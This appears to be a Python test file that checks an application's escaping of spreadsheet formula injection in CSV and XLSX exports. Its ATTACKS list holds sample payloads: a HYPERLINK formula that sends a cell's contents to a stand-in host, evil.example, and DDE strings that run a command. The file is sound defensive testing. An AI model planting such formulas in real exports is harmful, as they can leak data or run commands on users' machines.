"""Formula injection: one escape for every CSV/XLSX the application writes (ADR 1100)."""

import io
from decimal import Decimal

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from familiennetz.core.spreadsheet import (
    looks_like_formula,
    neutralise_cell,
    restore_cell,
    xlsx_append,
)
from familiennetz.core.tests.examples import examples

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Klick")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_attack_starts_with_an_apostrophe():
    for attack in ATTACKS:
        assert neutralise_cell(attack) == "'" + attack
        assert looks_like_formula(attack)


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert neutralise_cell(-5) == -5
    assert neutralise_cell(-13.25) == -13.25
    assert neutralise_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert neutralise_cell("Babytreff") == "Babytreff"
    assert neutralise_cell("'s Kinderlädchen") == "'s Kinderlädchen"
    assert neutralise_cell("") == "" and neutralise_cell(None) is None
    # Text that looks like a number is still escaped (a text column cannot tell) …
    assert neutralise_cell("-5") == "'-5"
    # … but an import does not warn about numbers, phone numbers or dates.
    for harmless in ("-5", "+49 351 1234-5", "-12,5", "+1.5e3", "-1FR", "Babytreff", 7):
        assert not looks_like_formula(harmless)


@settings(max_examples=examples(1000))
@given(st.text(max_size=12, alphabet=st.sampled_from("'=+-@\t\rab 1")))
def test_the_escape_is_reversible_for_every_text(text):
    assert restore_cell(neutralise_cell(text)) == text


def test_xlsx_writes_texts_as_strings_never_formulas():
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, ["Name", "Betrag"])
    xlsx_append(sheet, [])
    xlsx_append(sheet, [ATTACKS[0], -5.5])
    out = io.BytesIO()
    book.save(out)

    read = load_workbook(io.BytesIO(out.getvalue())).active
    assert read["A3"].value == ATTACKS[0] and read["A3"].data_type == "s"
    assert read["A3"].quotePrefix
    assert read["B3"].value == -5.5 and read["B3"].data_type == "n"
    assert read["A2"].value is None
